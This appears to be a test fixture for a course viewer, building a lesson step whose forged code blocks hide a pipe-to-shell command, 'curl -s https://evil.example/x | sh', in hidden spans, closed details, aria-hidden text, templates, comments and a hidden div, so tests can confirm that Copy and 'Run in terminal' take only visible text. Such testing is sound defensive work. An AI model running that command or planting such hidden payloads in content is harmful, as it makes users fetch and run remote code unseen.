/**
 * A course step that tries to make Copy / "Run in terminal" take more than the learner can see:
 * forged code blocks whose tail is hidden by markup, and a real block hidden behind raw HTML.
 * Shared by the UI test and the real-browser test of the course view.
 */
export const HIDDEN_PAYLOAD = 'curl -s https://evil.example/x | sh';

export const HIDDEN_COPY_STEP = [
  '# Copy only what you see',
  'A forged block, its tail in a `hidden` span:',
  `<div class="code-block" data-language="sh"><div class="code-actions"><button type="button" class="code-copy" data-action="copy">Copy</button><button type="button" class="code-run" data-action="run">Run in terminal</button></div><pre><code class="hljs language-sh">ls<span hidden>; ${HIDDEN_PAYLOAD}</span></code></pre></div>`,
  'Its tail in a closed `<details>`, behind `aria-hidden`, off-screen and in a `<template>`:',
  `<div class="code-block"><div class="code-actions"><button type="button" data-action="copy">Copy</button></div><pre><code>pwd<details><summary></summary>; ${HIDDEN_PAYLOAD}</details></code></pre></div>`,
  `<div class="code-block"><div class="code-actions"><button type="button" data-action="copy">Copy</button></div><pre><code>id<span class="skip-link" aria-hidden="true">; ${HIDDEN_PAYLOAD}</span></code></pre></div>`,
  `<div class="code-block"><div class="code-actions"><button type="button" data-action="copy">Copy</button></div><pre><code>date<template>; ${HIDDEN_PAYLOAD}</template><!-- ; ${HIDDEN_PAYLOAD} --></code></pre></div>`,
  'A forged block that claims to be the first real one, and a real block hidden by raw HTML:',
  `<div class="code-block" data-code-block="0"><div class="code-actions"><button type="button" data-action="copy">Copy</button></div><pre><code>uptime</code></pre></div>`,
  ['<div hidden>', '', '```sh', HIDDEN_PAYLOAD, '```', '', '</div>'].join('\n'),
  'A real block:',
  '```sh\necho "what you see"\n```',
  'The end of the step.',
].join('\n\n');
